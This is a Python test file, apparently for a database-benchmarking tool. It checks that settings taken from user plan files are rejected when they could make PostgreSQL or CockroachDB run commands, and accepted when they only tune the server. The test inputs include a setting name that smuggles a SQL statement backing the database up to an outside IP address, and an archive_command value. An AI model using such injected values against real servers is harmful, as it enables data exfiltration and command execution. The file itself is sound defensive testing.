"""A plan from anybody cannot make a server run a program, whatever its study file says."""

import pytest

from nephoscope.databases.cockroachdb.commands import MANNERS, USUAL, manner_of
from nephoscope.databases.postgres.database import _options
from nephoscope.model.errors import InputError
from nephoscope.study.model import Database
from nephoscope.study.server_settings import against_server_setting, require_flags, require_settings


def test_a_server_is_not_started_with_a_command_of_a_plan() -> None:
    with pytest.raises(InputError, match="archive_command"):
        _options(Database(settings={"archive_command": "touch /tmp/x"}))


def test_cockroachdb_is_not_started_with_a_flag_or_a_statement_of_a_plan() -> None:
    with pytest.raises(InputError, match="spatial-libs"):
        manner_of(Database(system="cockroachdb", start_flags={"spatial-libs": "/tmp/x"}))
    with pytest.raises(InputError, match="not the name of a setting"):
        manner_of(Database(system="cockroachdb", settings={"a = 1; BACKUP INTO 'http://203.0.113.7'; --": "1"}))


def test_what_the_editions_set_is_allowed() -> None:
    for manner in (*MANNERS.values(), USUAL):
        require_flags(manner.flags)
        require_settings("cockroachdb", manner.settings)
    require_flags({"locality": "region=eu,zone=a", "max-go-memory": "4GiB", "wal-failover": "among-stores"})


@pytest.mark.parametrize(
    ("system", "name", "value"),
    [
        ("postgres", "shared_preload_libraries", "pg_stat_statements, auto_explain"),
        ("postgres", "auto_explain.log_min_duration", "5s"),
        ("postgres", "search_path", '"$user", public'),
        ("postgres", "temp_file_limit", "1GB"),
        ("mariadb", "innodb_buffer_pool_size", "1G"),
        ("mariadb", "innodb_buffer_pool_load_at_startup", "ON"),
        ("mysql", "log_bin", "ON"),
        ("mysql", "sql_mode", "STRICT_ALL_TABLES,NO_ZERO_DATE"),
        ("valkey", "save", "60 1000"),
        ("valkey", "maxmemory-policy", "allkeys-lru"),
    ],
)
def test_settings_that_only_tune_are_allowed(system: str, name: str, value: str) -> None:
    assert against_server_setting(system, name, value) == ""
